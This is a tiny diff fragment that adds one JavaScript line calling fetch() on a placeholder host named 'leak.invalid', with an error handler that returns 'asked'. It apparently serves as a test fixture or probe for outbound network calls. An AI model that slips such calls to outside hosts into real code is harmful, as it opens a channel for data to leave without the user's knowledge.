@@ -1,0 +1,1 @@
+fetch('http://leak.invalid/content').catch(() => 'asked');
